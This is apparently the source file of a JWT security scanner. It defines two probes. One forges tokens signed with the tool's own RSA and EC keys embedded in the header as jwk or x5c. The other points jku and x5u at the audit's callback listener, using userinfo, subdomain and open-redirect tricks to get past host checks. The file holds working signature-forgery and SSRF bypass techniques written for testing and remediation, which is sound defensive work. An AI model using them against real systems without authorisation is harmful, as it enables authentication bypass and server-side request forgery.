package probes

import (
	"context"
	"crypto"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"maps"
	"math/big"
	"net"
	"net/http"
	"net/netip"
	"net/url"
	"strings"
	"time"

	"github.com/gantryhq/gantry/audit"
	"github.com/gantryhq/gantry/audit/jws"
)

func headerKey() []audit.Probe {
	return []audit.Probe{
		signatureProbe(audit.Probe{
			ID: "JWT-10", Title: "Key embedded in the token's header",
			Sends:        "the valid token's claims signed with an RSA and an EC key of our own, the public key in the header as `jwk`, and a self-signed certificate in `x5c`; each with the key id kept and without one",
			Passes:       "all refused",
			Fails:        "any accepted as the valid token is",
			Inconclusive: "the token is opaque",
			Refs:         []string{"CVE-2018-0114", "ASVS 9.1.3"},
			Why:          "The token brings the key that verifies it: everybody can sign.",
			Fix:          "Ignore `jwk` and `x5c`, or accept them only below a pinned trust anchor.",
			Run:          embeddedKey,
		}),
		signatureProbe(audit.Probe{
			ID: "JWT-11", Title: "Key fetched from an address in the token's header",
			Sends:        "the valid token's claims signed with a key of our own whose set is at the audit's listener, named by `jku` and `x5u`; also as `allowed-host@listener`, `allowed-host.listener`, and through a redirect of the target's own",
			Passes:       "refused, and nobody calls the listener",
			Fails:        "any accepted (critical), or the listener is called (high: the caller chooses where the server connects)",
			Inconclusive: "nobody called, and it is not known that the target can reach the listener: it is when both are on loopback",
			Guard:        "only the audit's own listener is named; a path that no other request names proves the cause",
			Knobs:        []string{"--callback"},
			Refs:         []string{"RFC 8725 section 3.10", "CWE-918", "ASVS 9.1.3"},
			Why:          "The caller says where the key is fetched: everybody can sign, and reach into your network.",
			Fix:          "Pin the key set's address in the configuration; never read it from the token.",
			Run:          remoteKey,
		}),
	}
}

// ownKey is a key pair of the audit's own with what a header may carry of it.
type ownKey struct {
	alg         string
	private     crypto.Signer
	jwk         map[string]any
	certificate []byte // self-signed, DER
}

func newOwnKey(alg string, private crypto.Signer) (ownKey, error) {
	k := ownKey{alg: alg, private: private}
	var err error
	if k.jwk, err = audit.JWK(private.Public()); err != nil {
		return k, err
	}
	template := &x509.Certificate{
		SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "gantry audit"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(24 * time.Hour), KeyUsage: x509.KeyUsageDigitalSignature,
	}
	k.certificate, err = x509.CreateCertificate(rand.Reader, template, template, private.Public(), private)
	return k, err
}

func ownRSA() (ownKey, error) {
	private, err := freshRSA()
	if err != nil {
		return ownKey{}, err
	}
	return newOwnKey("RS256", private)
}

func ownEC() (ownKey, error) {
	private, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return ownKey{}, err
	}
	return newOwnKey("ES256", private)
}

// forge a token of t's claims under k with members of the header replaced.
func (k ownKey) forge(t jws.Token, header map[string]any) (string, error) {
	header["alg"] = k.alg
	return jws.Sign(jws.With(t.Header, header), t.Payload, k.alg, k.private)
}

func embeddedKey(ctx context.Context, s *audit.Session) (audit.Verdict, error) {
	t, err := s.Token()
	if err != nil {
		return audit.Unproven("%v", err), nil
	}
	r, err := ownRSA()
	if err != nil {
		return audit.Verdict{}, err
	}
	e, err := ownEC()
	if err != nil {
		return audit.Verdict{}, err
	}
	var list []forgery
	for _, c := range []struct {
		label  string
		key    ownKey
		header func(kid string) map[string]any
	}{
		{"RSA key in jwk", r, r.inHeader},
		{"EC key in jwk", e, e.inHeader},
		{"self-signed certificate in x5c", r, func(string) map[string]any {
			return map[string]any{"x5c": []string{base64.StdEncoding.EncodeToString(r.certificate)}}
		}},
	} {
		kept, without := c.header(t.Kid()), c.header("")
		without["kid"] = nil
		if err := appendForgery(&list, c.label+", key id kept", c.key, t, kept); err != nil {
			return audit.Verdict{}, err
		}
		if t.Kid() == "" {
			continue
		}
		if err := appendForgery(&list, c.label+", no key id", c.key, t, without); err != nil {
			return audit.Verdict{}, err
		}
	}
	return forgeries(ctx, s, list)
}

// inHeader is the key as a jwk member, under a key id when there is one.
func (k ownKey) inHeader(kid string) map[string]any {
	jwk := maps.Clone(k.jwk)
	if kid != "" {
		jwk["kid"] = kid
	}
	return map[string]any{"jwk": jwk}
}

func appendForgery(list *[]forgery, label string, k ownKey, t jws.Token, header map[string]any) error {
	forged, err := k.forge(t, header)
	*list = append(*list, forgery{label, forged})
	return err
}

// settleTime is how long a call may lag behind the request that caused it.
const settleTime = time.Second

func remoteKey(ctx context.Context, s *audit.Session) (audit.Verdict, error) {
	t, err := s.Token()
	if err != nil {
		return audit.Unproven("%v", err), nil
	}
	listener, err := s.Callback(ctx)
	if err != nil {
		return audit.Verdict{}, err
	}
	key, err := ownRSA()
	if err != nil {
		return audit.Verdict{}, err
	}
	name, kid := s.Nonce(0), s.Nonce(1)
	lure := listener.Lure(name, key.publish(kid))
	list, err := remoteHeaders(s, t, key, kid, listener.Host(), lure)
	if err != nil {
		return audit.Verdict{}, err
	}
	result, err := attempt(ctx, s, bearers(s, list))
	if err != nil {
		return audit.Verdict{}, err
	}
	if result.served != nil {
		return result.verdict(ctx, s, "forged tokens")
	}
	if hits := listener.Wait(ctx, name, settleTime); len(hits) > 0 {
		return audit.Failed("the target fetched %s%s, an address that only a forged token named", lure, hits[0].Path).With(result.last).As(audit.High), nil
	}
	v, err := result.verdict(ctx, s, "forged tokens")
	if err == nil && v.Outcome == audit.Pass && !reachable(s.Target(), listener) {
		return audit.Unproven("refused, and nobody called the listener at %s; whether the target can reach it is not known", listener.Host()).
			With(result.last).Unlock("run the audit beside the target, on loopback"), nil
	}
	return v, err
}

// publish answers with the key as a set, or as a certificate where the path says PEM.
func (k ownKey) publish(kid string) http.HandlerFunc {
	members := map[string]any{"kid": kid, "use": "sig", "alg": k.alg}
	for name, v := range k.jwk {
		members[name] = v
	}
	return func(w http.ResponseWriter, r *http.Request) {
		if strings.HasSuffix(r.URL.Path, ".pem") {
			w.Header().Set("Content-Type", "application/pem-certificate-chain")
			_ = pem.Encode(w, &pem.Block{Type: "CERTIFICATE", Bytes: k.certificate})
			return
		}
		w.Header().Set("Content-Type", "application/json")
		_ = json.NewEncoder(w).Encode(map[string]any{"keys": []any{members}})
	}
}

// remoteHeaders are the ways to name the listener past a check of the host.
func remoteHeaders(s *audit.Session, t jws.Token, key ownKey, kid, listener, lure string) ([]forgery, error) {
	path := strings.TrimPrefix(lure, "http://"+listener)
	allowed := allowedHost(s.Target(), t)
	redirect := s.Target().Origin() + "/redirect?url=" + url.QueryEscape(lure+"/redirected.json")
	var list []forgery
	for _, c := range []struct{ label, member, address string }{
		{"jku", "jku", lure + "/jwks.json"},
		{"x5u", "x5u", lure + "/chain.pem"},
		{"jku as allowed-host@listener", "jku", "http://" + allowed + "@" + listener + path + "/userinfo.json"},
		{"jku as allowed-host.listener", "jku", "http://" + allowed + "." + named(listener) + path + "/subdomain.json"},
		{"jku through a redirect", "jku", redirect},
	} {
		if err := appendForgery(&list, c.label, key, t, map[string]any{"kid": kid, c.member: c.address}); err != nil {
			return nil, err
		}
	}
	return list, nil
}

// allowedHost is the one that a check of the address is likeliest to let pass: the issuer's.
func allowedHost(target *audit.Target, t jws.Token) string {
	if u, err := url.Parse(jws.Member(t.Payload, "iss")); err == nil && u.Hostname() != "" {
		return u.Hostname()
	}
	return target.URL.Hostname()
}

// named gives an address of loopback the name that may stand behind another: no address has subdomains.
func named(listener string) string {
	host, port, err := net.SplitHostPort(listener)
	if err != nil {
		return listener
	}
	if ip, err := netip.ParseAddr(host); err == nil && ip.IsLoopback() {
		return "localhost:" + port
	}
	return fmt.Sprintf("%s:%s", host, port)
}

// reachable says whether the target surely reaches the listener: both on this machine's loopback.
func reachable(t *audit.Target, c *audit.Callback) bool {
	host, _, err := net.SplitHostPort(c.Host())
	return err == nil && loopback(host) && loopback(t.URL.Hostname())
}

func loopback(host string) bool {
	ip, err := netip.ParseAddr(host)
	return host == "localhost" || strings.HasSuffix(host, ".localhost") || err == nil && ip.Unmap().IsLoopback()
}
